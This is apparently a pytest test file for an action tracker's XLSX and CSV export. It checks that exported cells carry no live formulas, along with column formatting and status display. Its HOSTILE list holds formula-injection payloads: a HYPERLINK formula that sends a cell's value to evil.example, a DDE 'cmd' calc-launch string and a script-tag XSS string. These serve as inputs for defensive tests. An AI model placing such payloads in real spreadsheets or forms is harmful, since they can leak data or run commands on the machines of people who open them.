"""Exported spreadsheets keep tracker text inert: nothing a tracker said becomes a live formula."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

import openpyxl

from data_access.domain.rules import parse_timescale
from data_access.domain.tracker_rows import PlanInfo, ReviewSnapshot, TrackerRow
from data_access.papers import excel_export
from data_access.reads import review_figures
from data_access.storage import plan_writer
from data_access.storage.database import write_transaction

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "<script>alert(1)</script>",
]


def _actions(engine):
    rows = [
        TrackerRow(
            "a",
            "Rec A",
            text,
            action_id=f"1.{i}",
            lead="Head of Service",
            status="red",
            timescale=parse_timescale("March 2017"),
            progress=text,
        )
        for i, text in enumerate(HOSTILE, 1)
    ]
    rows.append(
        TrackerRow(
            "b", "Rec B", "Plain action", action_id="2.1", status="complete", timescale=parse_timescale("Ongoing")
        )
    )
    with write_transaction(engine) as conn:
        plan_id = plan_writer.ensure_plan(conn, PlanInfo("Export test"))
        review_id = plan_writer.save_review(conn, plan_id, ReviewSnapshot(dt.date(2017, 6, 30), rows), source="t.xlsx")
    return review_figures.review_actions(engine, review_id, dt.date(2017, 6, 30))


def test_xlsx_has_no_formulas_and_keeps_the_text_exactly(engine):
    actions = _actions(engine)
    data = excel_export.actions_xlsx(actions, "=Export test, Q1 2017/18")
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        sheet_xml = zf.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet["A1"].value == "=Export test, Q1 2017/18" and sheet["A1"].data_type == "s"
    headings = [c.value for c in sheet[3]]
    descriptions = [sheet.cell(row=r, column=headings.index("Action", 1) + 1).value for r in range(4, 4 + len(actions))]
    assert descriptions[: len(HOSTILE)] == HOSTILE
    statuses = [sheet.cell(row=r, column=headings.index("Status") + 1).value for r in range(4, 4 + len(actions))]
    assert statuses[0] == "✖ R Off track" and statuses[-1] == "✔ B Complete"  # words, not colour
    due = sheet.cell(row=4, column=headings.index("Due date") + 1)
    assert due.value.date() == dt.date(2017, 3, 31) and due.number_format == "DD/MM/YYYY"


def test_csv_prefixes_formula_text_and_reads_back_in_excel_encoding(engine):
    actions = _actions(engine)
    data = excel_export.actions_csv(actions)
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0][0] == "Action ID" and len(rows) == len(actions) + 1
    progress = [r[rows[0].index("Progress update")] for r in rows[1:]]
    assert progress[:4] == ["'" + text for text in HOSTILE[:4]]  # inert: shown as text by Excel
    assert progress[4] == "<script>alert(1)</script>"  # not a formula trigger: exactly as written
    assert all(not cell.startswith(excel_export.FORMULA_TRIGGERS) for row in rows for cell in row)


def test_xlsx_is_formatted_for_a_board_paper(engine):
    """Widths (no '###' dates), typed cells, unique headers, a frozen filterable header row, and
    status cells filled with the status colour and carrying the word."""
    actions = _actions(engine)
    sheet = openpyxl.load_workbook(io.BytesIO(excel_export.actions_xlsx(actions, "Export test"))).active
    headings = [c.value for c in sheet[3]]
    assert len(headings) == len(set(headings)) == len(excel_export.EXPORT_COLUMNS)
    assert headings[:4] == ["Action ID", "Recommendation", "Recommendation text", "Action"]
    column = {h: i + 1 for i, h in enumerate(headings)}
    letter = sheet.cell(row=3, column=column["Due date"]).column_letter
    assert sheet.column_dimensions[letter].width >= 11  # a DD/MM/YYYY date fits
    assert all(sheet.column_dimensions[sheet.cell(row=3, column=c).column_letter].width for c in column.values())
    due = sheet.cell(row=4, column=column["Due date"])
    assert due.is_date and due.value.date() == dt.date(2017, 3, 31)
    days = sheet.cell(row=4, column=column["Days overdue"])
    assert days.data_type == "n" and days.value == 91  # 31/03/2017 -> 30/06/2017
    assert sheet.freeze_panes == "A4"
    assert sheet.auto_filter.ref == f"A3:{sheet.cell(row=3, column=len(headings)).column_letter}{3 + len(actions)}"
    red = sheet.cell(row=4, column=column["Status"])
    assert red.value == "✖ R Off track"
    assert red.fill.fgColor.rgb.endswith("A6192E") and red.font.color.rgb.endswith("FFFFFF")
    done = sheet.cell(row=3 + len(actions), column=column["Status"])
    assert done.value == "✔ B Complete" and done.fill.fgColor.rgb.endswith("1D4F91")


def test_a_date_moved_without_approval_has_its_own_column(engine):
    """Issue 25: the board plan with 1.1 moved later unapproved (tests/fixtures.py): its row says
    Yes under "Date moved without approval"; every other row is blank there (2.2's move was approved)."""
    from tests.fixtures import MEETING, populate_board, record_board_date_changes

    ids = populate_board(engine)
    record_board_date_changes(engine, ids)
    actions = review_figures.review_actions(engine, ids["q2"], MEETING)
    sheet = openpyxl.load_workbook(io.BytesIO(excel_export.actions_xlsx(actions, "Board"))).active
    headings = [c.value for c in sheet[excel_export.HEADER_ROW]]
    moved, key = headings.index("Date moved without approval") + 1, headings.index("Action ID") + 1
    flags = {
        sheet.cell(r, key).value: sheet.cell(r, moved).value
        for r in range(excel_export.HEADER_ROW + 1, sheet.max_row + 1)
        if sheet.cell(r, key).value
    }
    assert {k: v for k, v in flags.items() if v} == {"1.1": "Yes"} and len(flags) == 6
